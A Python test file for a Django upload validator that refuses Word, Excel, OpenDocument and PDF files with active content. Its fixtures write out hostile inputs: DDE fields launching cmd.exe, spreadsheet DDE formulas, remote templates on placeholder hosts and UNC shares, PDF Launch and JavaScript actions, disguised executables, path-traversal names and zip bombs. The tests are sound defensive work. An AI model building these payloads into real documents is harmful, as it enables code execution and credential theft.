"""Documents that load, send or start something are refused, with a sentence that names the part."""

import re
import subprocess
import zlib
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from html import escape
from io import BytesIO
from typing import Any
from zipfile import ZIP_BZIP2, ZipFile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from roundtable.uploads import ooxml, validation
from roundtable.uploads import parts as office_parts
from roundtable.uploads import pdf as pdf_files
from roundtable.uploads.validation import check_file
from tests.outcomes.evidence.documents import (
    JPEG,
    ODS,
    OFFICE,
    PNG,
    WORD,
    XLSX,
    Content,
    Parts,
    docx,
    docx_saying,
    docx_with,
    docx_with_template,
    field,
    odf,
    packed_pdf,
    pdf,
    pptx_with,
    relationship,
    stream,
    xlsx,
    xlsx_counting,
    zipped,
)

AS_PDF = "Save the document as a PDF, then choose the PDF."
UNREADABLE = (
    "We cannot read this as an office document. Save it again or as a PDF, then choose it again."
)


def sentence(content: bytes) -> str:
    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("a", content))
    [said] = refusal.value.messages
    return said


def is_taken(content: bytes) -> bool:
    check_file(SimpleUploadedFile("a", content))
    return True


def loads(target: str) -> str:
    return f"The document loads “{target}” from elsewhere when someone opens it. {AS_PDF}"


def links(target: str) -> str:
    return f"A link leads to “{target}”, which is not a web or email address. {AS_PDF}"


def has_field(name: str) -> str:
    return f"The field “{name}” can load something or start a program. {AS_PDF}"


def contains(name: str, part: str) -> str:
    return f"“{name}” in the part “{part}” can load something or start a program. {AS_PDF}"


def is_program(part: str) -> str:
    return f"The part “{part}” is a macro, a program or an object of another program. {AS_PDF}"


def in_sheet(name: str) -> str:
    return contains(name, "xl/worksheets/sheet1.xml")


def counts(formula: str) -> str:
    return f"The formula “{formula}” can load something or start a program. {AS_PDF}"


def vml(shape: str) -> bytes:
    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:o"'
    return docx({"word/drawing1.vml": f"<xml {names}>{shape}</xml>"})


def with_password(content: bytes) -> bytes:
    """With the mark of a password on each part, before it and in the list at the end."""
    marked = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(sign), content):
            marked[found.start() + place] |= 1
    return bytes(marked)


def packed(content: bytes, method: int) -> bytes:
    stored = BytesIO()
    with ZipFile(BytesIO(content)) as before, ZipFile(stored, "w", method) as after:
        for name in before.namelist():
            after.writestr(name, before.read(name))
    return stored.getvalue()


def not_allowed(name: str) -> str:
    return f"The name of the part “{name}” is not allowed. {AS_PDF}"


def not_a_picture(part: str) -> str:
    return f"The part “{part}” is not a picture, as its name says. {AS_PDF}"


def not_needed(part: str) -> str:
    return f"The part “{part}” is not of a kind that a document needs. {AS_PDF}"


RELS, SETTINGS = "word/_rels/document.xml.rels", "word/settings.xml"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
HTTP, UNC = "http://192.0.2.1/a.png", "\\\\192.0.2.1\\share\\a.png"
FILE, ON_SHARE = "file://192.0.2.1/t.dotm", "file:///\\\\192.0.2.1\\t.dotm"
BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
Case = tuple[str, Callable[[], bytes], str]  # its name, the file, and the sentence
# What a Word document is connected to.
RELATIONS: list[tuple[str, str, str, Callable[[str], str]]] = [
    ("picture by http", "image", HTTP, loads),
    ("picture by UNC", "image", UNC, loads),
    ("picture by file", "image", "file://192.0.2.1/a", loads),
    ("template", "attachedTemplate", "https://a.example/t.dotm", loads),
    ("template beside another part", "attachedTemplate", "Normal.dotm", loads),
    ("frame", "frame", HTTP, loads),
    ("sub-document", "subDocument", UNC, loads),
    ("linked OLE", "oleObject", UNC, loads),
    ("link to a file", "hyperlink", "file:///C:/a.exe", links),
    ("link to a share", "hyperlink", UNC, links),
    ("link to a program beside it", "hyperlink", "a.pdf.exe", links),
    ("link to a drive", "hyperlink", "C:/a.pdf", links),
    ("link to a share in other signs", "hyperlink", "%5C%5C192.0.2.1%5Ca.pdf", links),
    ("link to a script", "hyperlink", "javascript:a", links),
]
# Fields of Word.
FIELDS = [
    ("INCLUDEPICTURE", field(f' INCLUDEPICTURE "{HTTP}" \\d '), has_field("INCLUDEPICTURE")),
    ("INCLUDETEXT", field(f'INCLUDETEXT "{HTTP}"'), has_field("INCLUDETEXT")),
    ("DDEAUTO over runs", field("DD", "EAU", "TO c:\\\\cmd.exe"), has_field("DDEAUTO")),
    ("DDE in small letters", field('dde Excel "a"'), has_field("dde")),
    (
        "DDE as simple field",
        '<w:fldSimple w:instr=" DDE Excel a "><w:r/></w:fldSimple>',
        has_field("DDE"),
    ),
    (
        "name from a field inside",
        f"{BEGIN}<w:instrText>D</w:instrText>{field(' QUOTE 68 ')}"
        f"<w:instrText>E</w:instrText>{END}",
        has_field("D\ufffcE"),
    ),
    (
        "deleted name before",
        f"{BEGIN}<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO a</w:instrText>{END}",
        has_field("DDEAUTO"),
    ),
    (
        "name that is left if a change is rejected",
        f"{BEGIN}<w:delInstrText>DDEAUTO </w:delInstrText><w:instrText>PAGE</w:instrText>{END}",
        has_field("DDEAUTO"),
    ),
    ("name as plain text", f"{BEGIN}<w:t>DDE a</w:t>{END}", has_field("DDE")),
    (
        "end that Word leaves out",
        f'{BEGIN}<x:x xmlns:x="x"><w:instrText>PAGE</w:instrText>{END}</x:x>'
        "<w:instrText>DDEAUTO a</w:instrText>",
        has_field("DDEAUTO"),
    ),
    ("field without a begin", "<w:instrText>DDEAUTO a</w:instrText>", has_field("DDEAUTO")),
    ("link field", field('HYPERLINK "file://a/b"'), links("file://a/b")),
    ("link field with a tip", field('HYPERLINK \\o "tip" \\\\a\\b'), links("a")),
]
FORMULAS = {
    "WEBSERVICE": '_xlfn.WEBSERVICE("http://a/"&A1)',
    "IMAGE": '_xlfn.IMAGE("http://a/")',
    "RTD": 'rtd ("a",,"b")',
    "DDE formula": "cmd|'/c calc'!A0",
    "DDE after a quote": "'a\"'!A1+cmd|'b'!A0&\"\"",
    "other workbook": "[1]Sheet1!A1",
    "workbook on a share": "'\\\\a\\[b.xlsx]S'!A1",
    "link formula": 'HYPERLINK("file:///a")',
}
# Elements of sheets, with what they say.
XLSX_ELEMENTS: list[tuple[str, str, str, Callable[[str], str]]] = [
    ("macro of a control", '<formControlPr fmlaMacro="{}"/>', "a.xlsm!A", in_sheet),
    ("text of a shape by DDE", '<sp textlink="{}"/>', "cmd|'/c calc'!A0", counts),
    (
        "map that reads a file",
        '<MapInfo><DataBinding FileBindingName="{}"/></MapInfo>',
        HTTP,
        loads,
    ),
    ("map with a schema elsewhere", '<MapInfo><Schema SchemaRef="{}"/></MapInfo>', HTTP, loads),
    ("formula of a pivot table", '<c formula="{}"/>', "DDE(1)", counts),
]
# Parts that a Word document has besides.
DOCX_PARTS: list[tuple[str, Parts, str]] = [
    (
        "mode that no program writes",
        {RELS: relationship("image", "a.png").replace('"External"', '"external"')},
        loads("a.png"),
    ),
    (
        "element that is left without the template inside it",
        {SETTINGS: '<s><!--<attachedTemplate a="--><mailMerge/>"/>--></s>'},
        contains("mailMerge", SETTINGS),
    ),
    (
        "mail merge",
        {SETTINGS: f"<w:settings {WORD}><w:mailMerge/></w:settings>"},
        contains("mailMerge", SETTINGS),
    ),
    ("OLE inside", {"word/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, is_program("word/oleObject1.bin")),
    ("program inside", {"word/media/a.exe": b"MZ\x90"}, is_program("word/media/a.exe")),
    ("program as picture", {"a.png": b"MZ\x90" + bytes(80)}, not_a_picture("a.png")),
    ("macro", {"word/vbaProject.bin": b"x"}, is_program("word/vbaProject.bin")),
    ("name that leaves the folder", {"../../a.png": PNG}, not_allowed("../../a.png")),
    ("name with a drive", {"D:\\a.png": PNG}, not_allowed("D:\\a.png")),
    ("name from the root", {"/a.png": PNG}, not_allowed("/a.png")),
    ("name with an empty folder", {"word//a.png": PNG}, not_allowed("word//a.png")),
    ("names that differ by case", {"a.png": PNG, "A.PNG": PNG}, UNREADABLE),
    ("folder with content", {"word/": "a"}, UNREADABLE),
    ("document type", {"a.xml": '<!DOCTYPE a SYSTEM "a"><a/>'}, contains("DOCTYPE", "a.xml")),
    (
        "style sheet",
        {"a.xml": '<?xml-stylesheet href="http://a/"?><a/>'},
        contains("xml-stylesheet", "a.xml"),
    ),
    ("script in a picture", {"a.svg": "<svg><script/></svg>"}, contains("script", "a.svg")),
    ("picture in a picture", {"a.svg": f'<svg><image href="{HTTP}"/></svg>'}, loads(HTTP)),
    (
        "style of a picture",
        {"a.svg": "<svg><style>@import 'a'</style></svg>"},
        loads("@import 'a'"),
    ),
    ("event of a picture", {"a.svg": '<svg onload="a()"/>'}, contains("onload", "a.svg")),
]
# Bodies of OpenDocument texts.
ODF_BODIES = [
    ("form that is sent", '<x:model xmlns:x="http://www.w3.org/2002/xforms"/>', "model"),
    ("frame", "<draw:floating-frame/>", "floating-frame"),
    ("plug-in", "<draw:plugin/>", "plugin"),
    ("applet", "<draw:applet/>", "applet"),
    ("event", "<script:event-listener/>", "event-listener"),
    ("DDE", '<office:dde-source office:dde-application="soffice"/>', "dde-source"),
    ("action", '<presentation:e presentation:action="execute"/>', "execute"),
]
ODF_ADDRESSES: list[tuple[str, str, str, Callable[[str], str]]] = [
    ("template on a share", "<meta:template xlink:href={}/>", "\\\\a\\b.ott", loads),
    ("template by http", "<meta:template xlink:href={}/>", HTTP, loads),
    ("picture by http", "<draw:image xlink:href={}/>", HTTP, loads),
    ("picture beside it", "<draw:image xlink:href={}/>", "../a.png", loads),
    ("picture of a form", "<form:image form:image-data={}/>", HTTP, loads),
    ("picture of a form on a share", "<form:button form:image-data={}/>", UNC, loads),
    (
        "picture as a property",
        '<form:property form:property-name="ImageURL" office:string-value={}/>',
        HTTP,
        loads,
    ),
    ("database", "<form:form form:datasource={}/>", "file://192.0.2.1/a.odb", loads),
    ("section", "<text:section-source xlink:href={}/>", HTTP, loads),
    ("link to a file", "<text:a xlink:href={}/>", "file:///a", links),
    ("link to a macro", "<text:a xlink:href={}/>", "vnd.sun.star.script:a", links),
]
ODF_FORMULAS = [
    ("condition", "condition", "DDE(1)"),
    ("DDE formula", "formula", "of:=DDE('a';'b')"),
    ("other file", "formula", "of:=['file:///a.ods'#$S.A1]"),
]
# Parts of OpenDocument texts.
ODF_PARTS: list[tuple[str, str, Content, Callable[[str], str]]] = [
    ("menu", "Configurations2/menubar/menubar.xml", "<a/>", is_program),
    ("program as font", "Fonts/a.ttf", b"MZ", is_program),
    ("macro", "Basic/script-lc.xml", "<a/>", is_program),
    ("object of another program", "Object 1", b"\xd0\xcf\x11\xe0", is_program),
    ("program as picture", "Pictures/a.png", b"MZ", not_a_picture),
]
OTHER_FILES: list[Case] = [
    (
        "program as printer settings",
        lambda: docx({"a": b"MZ"}, a=f"{OFFICE}wordprocessingml.printerSettings"),
        is_program("a"),
    ),
    (
        "macro document",
        lambda: docx(
            **{"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
        ),
        is_program("word/document.xml"),
    ),
    (
        "XML of another kind",
        lambda: docx({"a": "<a/>"}, a="application/vnd.ms-office.webextension+xml"),
        not_needed("a"),
    ),
    ("two documents in one", lambda: docx({"a": "<a/>"}, a=f"{XLSX}.main+xml"), UNREADABLE),
    (
        "metafile that is none",
        lambda: docx({"a": b"\x01\x00\x00\x00" + bytes(60)}, a="image/x-emf"),
        not_a_picture("a"),
    ),
    (
        "picture that says to be inside",
        lambda: docx_with("image", "//192.0.2.1/a.png", is_external=False),
        loads("//192.0.2.1/a.png"),
    ),
    ("template on a share", lambda: docx_with_template(UNC), loads(UNC)),
    ("template of another computer", lambda: docx_with_template(FILE), loads(FILE)),
    ("template on a share, by file", lambda: docx_with_template(ON_SHARE), loads(ON_SHARE)),
    ("drawing with an address", lambda: vml(f'<v:imagedata src="{HTTP}"/>'), loads(HTTP)),
    ("drawing with a linked address", lambda: vml(f'<v:imagedata o:href="{HTTP}"/>'), loads(HTTP)),
    (
        "macro of a drawing",
        lambda: vml("<x:FmlaMacro xmlns:x='x'>[1]!A</x:FmlaMacro>"),
        contains("[1]!A", "word/drawing1.vml"),
    ),
    (
        "link to a workbook",
        lambda: xlsx(
            "<worksheet/>", {BOOK_RELS: relationship("externalLink", "a.xml", is_external=False)}
        ),
        contains("externalLink", BOOK_RELS),
    ),
    (
        "connection",
        lambda: xlsx(
            "<worksheet/>",
            {"xl/connections.xml": "<connections/>"},
            **{"xl/connections.xml": f"{OFFICE}spreadsheetml.connections+xml"},
        ),
        not_needed("xl/connections.xml"),
    ),
    (
        "macro of a shape",
        lambda: xlsx("<worksheet/>", {"xl/drawing1.xml": f"<sp macro=\"'{HTTP}'!A\"/>"}),
        contains(f"'{HTTP}'!A", "xl/drawing1.xml"),
    ),
    (
        "program on a slide",
        lambda: pptx_with('<sld><hlinkClick action="ppaction://program"/></sld>'),
        contains("ppaction://program", "ppt/slides/slide1.xml"),
    ),
    (
        "document in a document",
        lambda: docx({"word/embeddings/a.xlsx": docx()}),
        is_program("word/embeddings/a.xlsx"),
    ),
    (
        "macro in the workbook of a chart",
        lambda: docx({"word/embeddings/a.xlsx": xlsx("<worksheet/>", {"xl/vbaProject.bin": b"x"})}),
        is_program("xl/vbaProject.bin"),
    ),
    (
        "workbook in the workbook of a chart",
        lambda: docx({"word/embeddings/a.xlsx": xlsx("<worksheet/>", {"b.xlsx": xlsx()})}),
        is_program("b.xlsx"),
    ),
    (
        "name with a hidden end",
        lambda: docx({"a-b.png": PNG}).replace(b"a-b.png", b"a\0b.png"),
        not_allowed("a b.png"),
    ),
    ("something before it", lambda: b"PK\x03\x04" + bytes(40) + docx(), UNREADABLE),
    ("something after it", lambda: docx() + b"<script>", UNREADABLE),
    ("part with a password", lambda: with_password(docx()), UNREADABLE),
    ("other compression", lambda: packed(docx(), ZIP_BZIP2), UNREADABLE),
    (
        "ODF picture with a script",
        lambda: odf("", {"Pictures/a.svg": "<svg><script/></svg>"}),
        contains("script", "Pictures/a.svg"),
    ),
    (
        "ODF that is locked",
        lambda: odf("", {"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "This document is locked. Choose a document without a password.",
    ),
]


def office_files() -> Iterator[Case]:
    for name, kind, target, say in RELATIONS:
        yield name, partial(docx_with, kind, target), say(target)
    for name, kind in (("HTML inside", "aFChunk"), ("ActiveX", "control")):
        yield name, partial(docx_with, kind, "a.xml", is_external=False), contains(kind, RELS)
    for name, runs, said in FIELDS:
        yield name, partial(docx_saying, runs), said
    for name, formula in FORMULAS.items():
        yield name, partial(xlsx_counting, escape(formula, quote=False)), counts(formula)
    for name, sheet, value, say in XLSX_ELEMENTS:
        yield name, partial(xlsx, f"<worksheet>{sheet.format(value)}</worksheet>"), say(value)
    for name, parts, said in DOCX_PARTS:
        yield name, partial(docx, parts), said
    for name, body, element in ODF_BODIES:
        yield f"ODF {name}", partial(odf, body), contains(element, "content.xml")
    for name, body, address, say in ODF_ADDRESSES:
        yield f"ODF {name}", partial(odf, body.format(f'"{address}"')), say(address)
    for name, key, formula in ODF_FORMULAS:
        cell = f'<table:c table:{key}="{formula}"/>'
        yield f"ODF {name}", partial(odf, cell, kind=ODS), counts(formula)
    for name, part, content, say in ODF_PARTS:
        yield f"ODF {name}", partial(odf, "", {part: content}), say(part)
    yield from OTHER_FILES


@pytest.mark.parametrize(
    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in office_files()]
)
def test_unsafe_office_file_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
    assert sentence(make()) == said


def names(part: str) -> str:
    return (
        f"This PDF contains “{part}”, which can load, send or start something. Print it to a new "
        "PDF, then choose the new PDF."
    )


def annotation(subtype: str, more: str = "") -> str:
    return f"<</Type/Annot/Subtype/{subtype}/Rect[0 0 1 1]{more}>>"


LOCKED = "This PDF is locked. Choose a PDF without a password."
NOT_ONLY_PDF = (
    "This PDF contains something that is not part of it. Open it, print it to a new PDF, then "
    "choose the new PDF."
)
TOO_LARGE = "The file is too large after unpacking. Choose a smaller file."
SCRIPT = zlib.compress(b"<</S/JavaScript>>")
# What a PDF does at its start, the names that annotations have, and other objects.
PDF_ACTIONS = [
    ("SubmitForm", "/S/SubmitForm/F(http://a/)", "SubmitForm"),
    ("ImportData", "/S/ImportData/F(a)", "ImportData"),
    ("GoToR", "/S/GoToR/F(a.pdf)", "GoToR"),
    ("GoToE", "/S/GoToE/T<<>>", "GoToE"),
    ("escaped name", "/S/GoTo#52/F(a.pdf)", "GoToR"),
    ("script", "/S/JavaScript/JS(a)", "JavaScript"),
    ("program", "/S/Launch/F(a.exe)", "Launch"),
    ("Rendition", "/S/Rendition", "Rendition"),
    ("Sound", "/S/Sound", "Sound"),
    ("menu command", "/S/Named/N/Quit", "Quit"),
    ("action after an action", "/S/GoTo/Next[<</S/Hide>>]", "Hide"),
    ("address at the start", f"/S/URI/URI({HTTP})", "URI"),
    ("address after the start", f"/S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI({HTTP})>>", "URI"),
]
PDF_OBJECTS: list[tuple[str, Sequence[str | bytes], str]] = [
    *((name, [annotation(name)], name) for name in ("Movie", "Screen", "3D", "FileAttachment")),
    ("link to a file", [annotation("Link", "/A<</S/URI/URI(file://a/b)>>")], "file://a/b"),
    ("link to a share", [annotation("Link", "/A<</S/URI/URI(\\\\\\\\a\\\\b)>>")], "\\\\a\\b"),
    ("script without a kind", ["<</JS(a)>>"], "JS"),
    ("scripts by name", ["<</JavaScript(x)>>"], "JavaScript"),
    ("scripts by an escaped name", ["<</J#61vaScript(x)>>"], "JavaScript"),
    ("action of an event", ["<</AA<</O<</S/ResetForm>>>>>>"], "ResetForm"),
    ("address of a page that opens", [f"<</Type/Page/AA<</O<</S/URI/URI({HTTP})>>>>>>"], "URI"),
    (
        "address of an event, in objects of their own",
        ["<</AA 5 0 R>>", "<</PV 6 0 R>>", f"<</S/URI/URI({HTTP})>>"],
        "URI",
    ),
    ("other file", ["<</Type/Filespec/F(a)>>"], "Filespec"),
    ("file system of the web", ["<</FS/URL/F(http://a/)>>"], "FS"),
    ("content elsewhere", [stream("/F(http://a/)", b"")], "Filespec"),
    ("page of another file", [stream("/Subtype/Form/Ref<</Page 1>>", b"")], "Ref"),
    (
        "action in packed objects",
        [stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"9 0 <</S/GoToR>>"))],
        "GoToR",
    ),
    ("packed script", [stream("/Type/Obj#53tm", SCRIPT)], "JavaScript"),
    ("packed script after spaces", [stream("/Type/ObjStm" + " " * 500, SCRIPT)], "JavaScript"),
    ("packed script without a type", [stream("/ObjStm", SCRIPT)], "JavaScript"),
    ("action where none is expected", ["<</S/Thread>>"], "Thread"),
    ("action by its type", ["<</Type/Action/S/Hide>>"], "Hide"),
    ("annotation without a place", ["<</Type/Annot/Subtype/3D>>"], "3D"),
    ("annotation by its place", ["<</Rect[0 0 1 1]/Subtype/3D>>"], "3D"),
    ("file by its type", ["<</Type/Filespec/UF(a)>>"], "Filespec"),
    ("file by its name", ["<</F<</UF(a)>>>>"], "Filespec"),
    ("content in an unknown file", [stream("/F<<>>", b"")], "Filespec"),
    ("program for printers", [stream("/Subtype/PS", b"")], "PS"),
    ("action of a link", ["<</PA<</S/Hide>>>>"], "Hide"),
]
OTHER_PDF_FILES: list[Case] = [
    ("form of another kind", lambda: pdf(catalog="/AcroForm<</XFA(a)>>"), names("XFA")),
    ("script at the end", lambda: pdf().replace(b"trailer<<", b"trailer<</JS(a)"), names("JS")),
    ("object in a stream", lambda: packed_pdf("<</S/Thread>>"), names("Thread")),
    (
        "key that hides a password",
        lambda: pdf().replace(
            b"/Root", b"/#45ncrypt<</Filter/Standard/V 1/R 2/O(a)/U(a)/P 1>>/Root"
        ),
        LOCKED,
    ),
    ("password", lambda: pdf().replace(b"/Root", b"/Encrypt 2 0 R/Root"), LOCKED),
    ("archive behind it", lambda: pdf() + docx(), NOT_ONLY_PDF),
    ("no end", lambda: b"%PDF-1.4\nno end", NOT_ONLY_PDF),
]


def pdfs() -> Iterator[Case]:
    for name, action, said in PDF_ACTIONS:
        yield name, partial(pdf, catalog=f"/OpenAction<<{action}>>"), names(said)
    for name, objects, said in PDF_OBJECTS:
        yield name, partial(pdf, *objects), names(said)
    yield from OTHER_PDF_FILES


@pytest.mark.usefixtures("pdf_in_this_process")
@pytest.mark.parametrize(
    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in pdfs()]
)
def test_unsafe_pdf_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
    assert sentence(make()) == said


@pytest.mark.own_process
def test_pdf_is_checked_in_a_process_with_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    assert is_taken(pdf())
    assert sentence(pdf(annotation("Screen"))) == names("Screen")
    unknown = "We cannot check this PDF. Print it to a new PDF, then choose the new PDF."
    assert sentence(b"%PDF-1.4\nnothing\n%%EOF") == unknown

    def busy(*_args: Any, **_options: Any) -> None:
        raise subprocess.TimeoutExpired("reader", 15)

    monkeypatch.setattr(subprocess, "run", busy)
    assert sentence(pdf()) == unknown


def test_zip_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_parts, "MAX_UNPACKED_BYTES", 100_000)
    monkeypatch.setattr(pdf_files, "MAX_UNPACKED_BYTES", 100_000)
    assert sentence(docx({"word/big.xml": "0" * 200_000})) == TOO_LARGE
    bomb = stream("/Type/ObjStm", zlib.compress(bytes(200_000)))
    assert sentence(pdf(bomb)) == TOO_LARGE


def test_archive_has_at_most_two_thousand_parts() -> None:
    pictures = {f"word/media/{number}.jpeg": JPEG for number in range(1_998)}
    assert is_taken(docx(pictures))
    assert sentence(docx(pictures | {"word/media/more.jpeg": JPEG})) == TOO_LARGE
    # The parts of the workbook of a chart count too.
    del pictures["word/media/0.jpeg"]
    assert sentence(docx(pictures | {"word/embeddings/a.xlsx": xlsx()})) == TOO_LARGE


def test_xml_is_parsed_up_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_parts, "MAX_XML_BYTES", 50_000)
    assert is_taken(docx({"a.xml": f"<a>{'a' * 40_000}</a>"}))
    assert sentence(docx({"a.xml": f"<a>{'a' * 60_000}</a>"})) == TOO_LARGE
    assert sentence(odf(f"<text:p>{'a' * 60_000}</text:p>")) == TOO_LARGE


def test_long_name_is_cut_in_the_sentence() -> None:
    assert sentence(docx({f"{'a' * 200}.exe": b"MZ"})) == is_program("a" * 80 + "…")


def test_archive_that_says_no_kind_is_refused() -> None:
    word = {"word/document.xml": "<w/>"}
    for content in (
        zipped({"content.xml": "<a/>", "mimetype": "application/x"}),
        zipped({"mimetype": "application/x", "content.xml": "<a/>"}),
        zipped({"a.txt": "x"}),
        zipped(word),
        zipped(word, comment=b"<script>"),
    ):
        assert sentence(content) == UNREADABLE


def test_deep_elements_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_parts, "MAX_DEPTH", 5)
    assert is_taken(docx({"a.xml": "<a>" * 5 + "</a>" * 5}))
    assert is_taken(docx({"a.xml": "<a>" + "<a></a>" * 9 + "</a>"}))
    assert sentence(docx({"a.xml": "<a>" * 6 + "</a>" * 6})) == TOO_LARGE


def test_endless_tag_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_parts, "MAX_TAG_BYTES", 300_000)
    text = "a" * 700_000
    assert is_taken(docx({"a.xml": f"<a>{text}</a>"}))
    assert sentence(docx({"a.xml": f'<a b="{text}"/>'})) == TOO_LARGE


def test_endless_instruction_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (office_parts, ooxml):
        monkeypatch.setattr(module, "MAX_CODE", 100)
    assert is_taken(docx_saying(field("PAGE", *[" " * 9] * 10)))
    assert sentence(docx_saying(field("PAGE", *[" " * 9] * 11))) == TOO_LARGE
    assert is_taken(xlsx_counting("A1" * 50))
    assert sentence(xlsx_counting("A1" * 51)) == TOO_LARGE


def test_archive_of_very_many_parts_is_not_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    many = docx({f"word/media/{number}.jpeg": JPEG for number in range(1_999)})
    monkeypatch.setattr(validation, "ZipFile", None)
    assert sentence(many) == TOO_LARGE
